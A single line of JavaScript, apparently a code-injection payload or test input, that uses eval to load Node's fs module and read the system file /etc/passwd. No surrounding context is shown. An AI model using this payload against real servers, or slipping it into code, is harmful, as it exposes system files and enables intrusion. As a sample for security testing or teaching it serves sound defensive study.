return eval('require("fs").readFileSync("/etc/passwd")')
